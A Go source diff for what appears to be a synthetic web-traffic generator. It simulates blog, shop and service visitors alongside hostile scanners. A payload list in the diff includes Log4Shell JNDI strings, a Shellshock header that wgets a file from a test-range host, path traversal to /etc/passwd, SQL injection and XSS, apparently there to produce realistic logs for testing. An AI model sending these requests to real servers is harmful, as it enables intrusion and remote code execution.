@@ -194,10 +194,15 @@ var everywhere = [][]try{
 	tries("POST", "/boaform/admin/formLogin"), tries("GET", "/HNAP1/"), tries("POST", "/GponForm/diag_Form?images/"),
 	tries("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)"), tries("GET", "/owa/auth/logon.aspx"), tries("POST", "/autodiscover/autodiscover.json?@zdi/PowerShell"),
 	tries("GET", "/manager/html"), tries("GET", "/console/"), tries("GET", "/struts2-showcase/index.action"), tries("GET", "/server-status"),
-	{{"GET", "/", 200, "${jndi:ldap://198.18.7.7:1389/a}", ""}}, {{"GET", "/", 200, "Mozilla/5.0", "${jndi:${lower:l}dap://198.18.7.8/x}"}},
-	{{"GET", "/", 200, "() { :;}; /bin/bash -c \"wget http://198.18.7.9/x\"", ""}}, {{"GET", "/?q=${jndi:dns://198.18.9.1/a}", 200, "", ""}},
-	{{"GET", "http://198.18.1.1/echo.php", 0, "", ""}}, {{"CONNECT", "smtp.example.net:25", 405, "", ""}}, {{"CONNECT", "www.example.net:443", 400, "", ""}},
-	{{"PROPFIND", "/", 405, "", ""}}, {{"SEARCH", "/" + strings.Repeat(`\x90\x02\xb1\x02`, 40), 414, "", ""}},
+	{{"GET", "/", 200, "${jndi:ldap://198.18.7.7:1389/a}", ""}},
+	{{"GET", "/", 200, "Mozilla/5.0", "${jndi:${lower:l}dap://198.18.7.8/x}"}},
+	{{"GET", "/", 200, "() { :;}; /bin/bash -c \"wget http://198.18.7.9/x\"", ""}},
+	{{"GET", "/?q=${jndi:dns://198.18.9.1/a}", 200, "", ""}},
+	{{"GET", "http://198.18.1.1/echo.php", 0, "", ""}},
+	{{"CONNECT", "smtp.example.net:25", 405, "", ""}},
+	{{"CONNECT", "www.example.net:443", 400, "", ""}},
+	{{"PROPFIND", "/", 405, "", ""}},
+	{{"SEARCH", "/" + strings.Repeat(`\x90\x02\xb1\x02`, 40), 414, "", ""}},
 	{{"get", "/scripts/..%c0%af..%c0%af..%c0%af../winnt/system32/cmd.exe?/c+dir", 501, "", ""}},
 	tries("GET", "/?id=1%2527%2520union%2520select%25201,2,3--"), tries("GET", "/index.php?id=1'+AND+SLEEP(5)--+-"), tries("GET", "/page.php?id=-1/**/UNION/**/ALL/**/SELECT/**/1,user()"),
 	tries("GET", "/?search=%3Cscript%3Ealert(1)%3C/script%3E"), tries("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"), tries("GET", "/static/../../../../etc/passwd"),
@@ -223,7 +228,6 @@ func (h *house) strangers(n int, skip ...string) {
 		who := Exchange{Client: h.address(), Agent: pick(h.Traffic, agents), Kind: Hostile}
 		var plan []step
 		for _, t := range errand {
-			t := t
 			if has(skip, t.path) {
 				continue
 			}
@@ -287,7 +291,10 @@ func (t *Traffic) blog() {
 				who := "/xmlrpc.php"
 				return []step{h.ask(7*time.Hour, "POST", who, 200, 700, ""), h.ask(2*time.Second, "POST", who, 200, 4000, ""), h.ask(2*time.Second, "POST", who, 200, 500, "")}
 			}
-			plan := []step{h.ask(9*time.Hour, "GET", "/wp-admin/", 302, 0, ""), h.ask(time.Second, "GET", "/wp-login.php?redirect_to=https%3A%2F%2Fblog.example%2Fwp-admin%2F&reauth=1", 200, 5100, "")}
+			plan := []step{
+				h.ask(9*time.Hour, "GET", "/wp-admin/", 302, 0, ""), h.ask(time.Second, "GET", "/wp-login.php?redirect_to=https%3A%2F%2Fblog.example%2Fwp-admin%2F&reauth=1", 200, 5100, ""),
+				h.ask(time.Second, "GET", "/wp-admin/css/login.min.css?ver=6.8", 200, 9000, h.at("/wp-login.php")),
+			}
 			if h.chance(20) {
 				plan = append(plan, h.ask(9*time.Second, "POST", "/wp-login.php", 200, 5400, h.at("/wp-login.php")))
 			}
@@ -331,8 +338,10 @@ func (t *Traffic) shop() {
 	for range 400 {
 		h.reader(func() []step {
 			q := pick(h.Traffic, []string{"tasse 'blau'", `12" teller`, "<3", "select", "drop shipping; gratis", "kaffee & kuchen", "30% off (neu)", "c'est la vie", "100 or 200", "a=b"})
-			plan := []step{h.ask(9*time.Second, "GET", "/suche.php?q="+url.QueryEscape(q)+"&utm_source="+strings.Repeat("x", h.IntN(300)), 200, 9000, h.at("/")),
-				h.ask(9*time.Second, "POST", "/warenkorb.php", 302, 0, h.at("/artikel.php")), h.ask(time.Second, "GET", "/warenkorb.php", 200, 4000, h.at("/artikel.php"))}
+			plan := []step{
+				h.ask(9*time.Second, "GET", "/suche.php?q="+url.QueryEscape(q)+"&utm_source="+strings.Repeat("x", h.IntN(300)), 200, 9000, h.at("/")),
+				h.ask(9*time.Second, "POST", "/warenkorb.php", 302, 0, h.at("/artikel.php")), h.ask(time.Second, "GET", "/warenkorb.php", 200, 4000, h.at("/artikel.php")),
+			}
 			if h.chance(50) {
 				if h.chance(20) {
 					plan = append(plan, h.ask(9*time.Second, "POST", "/konto/login.php", 200, 3100, h.at("/konto/login.php")))
@@ -346,7 +355,7 @@ func (t *Traffic) shop() {
 	for range 3 { // who works there
 		who := Exchange{Client: h.address(), Agent: pick(h.Traffic, browsers)}
 		h.join(who, 8*time.Hour, func() []step {
-			plan := []step{h.ask(9*time.Hour, "GET", "/admin/", 302, 0, ""), h.ask(time.Second, "GET", "/admin/login.php", 200, 2000, ""), h.ask(9*time.Second, "POST", "/admin/login.php", 302, 0, h.at("/admin/login.php"))}
+			plan := []step{h.ask(9*time.Hour, "GET", "/admin/", 302, 0, ""), h.ask(time.Second, "GET", "/admin/login.php", 200, 2000, ""), h.ask(time.Second, "GET", "/skin/admin.css", 200, 2000, h.at("/admin/login.php")), h.ask(9*time.Second, "POST", "/admin/login.php", 302, 0, h.at("/admin/login.php"))}
 			for range 10 {
 				plan = append(plan, h.ask(40*time.Second, "GET", fmt.Sprintf("/admin/index.php?order=%d", h.IntN(9000)), 200, 9000, h.at("/admin/index.php")), h.ask(9*time.Second, "GET", "/phpmyadmin/index.php", 200, 12_000, ""))
 			}
@@ -401,10 +410,10 @@ func (t *Traffic) service() {
 		})
 	}
 	for range 2 {
-		h.watcher("ELB-HealthChecker/2.0", "/healthz", 10*time.Second)
+		h.watcher("ELB-HealthChecker/2.0", "/healthz", time.Minute)
 	}
-	h.watcher("kube-probe/1.31", "/readyz", 10*time.Second)
-	h.watcher("", "/v1/status", 30*time.Second)
+	h.watcher("kube-probe/1.31", "/readyz", time.Minute)
+	h.watcher("", "/v1/status", 5*time.Minute)
 	h.robots(10, nil)
 	h.strangers(2*len(everywhere), "/api/v1/", "/?", "/page")
 }
